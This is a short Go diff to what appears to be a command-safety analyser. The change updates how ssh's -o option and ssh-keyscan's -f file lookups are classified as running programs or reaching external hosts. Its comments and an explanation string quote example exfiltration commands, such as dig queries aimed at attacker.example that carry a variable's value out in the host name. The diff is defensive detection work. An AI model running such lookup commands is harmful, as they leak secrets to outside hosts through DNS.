@@ -373,7 +373,7 @@ func sshOptionRuns(v string, computed bool) bool {
 // sshCommon are the options ssh, scp and sftp share that run programs.
 func sshCommon() []Option {
 	return list(
-		val("o", RoleData).does(EffExec, whySSHOpt).when(sshOptionRuns),
+		val("o", RoleData).does(EffExec|EffComputed, whySSHOpt).when(sshOptionRuns),
 		val("F", RolePath).runsFile().does(EffExec, "an ssh configuration file can run local programs (ProxyCommand)"),
 		val("S", RoleProgram).does(EffExec, "this option names a program or control socket ssh uses"),
 		val("i", RolePath), val("J", RoleRemote), val("c", RoleData), val("l", RoleData),
@@ -758,7 +758,7 @@ func cmakeModel() *Spec {
 // their words name and send nothing else of their own: lookups, probes,
 // tracers and fetchers of a single file.
 var hostLookupNames = []string{"delv", "resolvectl", "ping", "ping6",
-	"fping", "arping", "traceroute", "traceroute6", "tracepath", "tracepath6", "mtr", "whois", "ssh-keyscan"}
+	"fping", "arping", "traceroute", "traceroute6", "tracepath", "tracepath6", "mtr", "whois"}
 
 const whySendsInName = "puts a variable's value or a command's output in its words, which name the host it looks up or reaches: " +
 	"the name alone carries it out, in the DNS query or the packets (dig \"$x.attacker.example\")"
@@ -771,9 +771,10 @@ const whySendsInName = "puts a variable's value or a command's output in its wor
 func hostLookup(name string) *Spec {
 	s := &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, Judge: sendsInName}
 	switch name {
-	case "dig":
+	case "dig", "ssh-keyscan":
 		// dig @attacker.example -f notes.txt: every line is a query to
-		// the server the command names.
+		// the server the command names (ssh-keyscan -f: every line a host
+		// it looks up).
 		s.Options = list(val("f", RolePath).does(EffExternal, whyLooksUpFile))
 	case "nslookup":
 		s.Judge = nslookupJudge
